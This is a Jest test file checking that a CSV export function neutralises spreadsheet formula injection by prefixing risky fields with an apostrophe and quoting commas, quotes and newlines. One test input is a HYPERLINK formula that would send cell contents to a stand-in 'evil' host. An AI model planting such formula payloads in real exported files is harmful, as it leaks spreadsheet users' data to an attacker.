import { expect, it } from '@jest/globals';
import { csvLine } from './usage-csv.service.js';

it.each([
  ['=1+1', `'=1+1`],
  ['+1', `'+1`],
  ['-1', `'-1`],
  ['@SUM(A1)', `'@SUM(A1)`],
  ['\t=1', `'\t=1`],
  ['\r=1', `"'\r=1"`],
  ['=HYPERLINK("http://evil/?"&A1,"x")', `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`],
  ['a,b', '"a,b"'],
  ['a"b', '"a""b"'],
  ['a\nb', '"a\nb"'],
  ['llama3.2:3b', 'llama3.2:3b'],
  ['', ''],
])('the field %j is written so that a spreadsheet takes it as text', (field, written) =>
  expect(csvLine([field])).toBe(`${written}\r\n`),
);
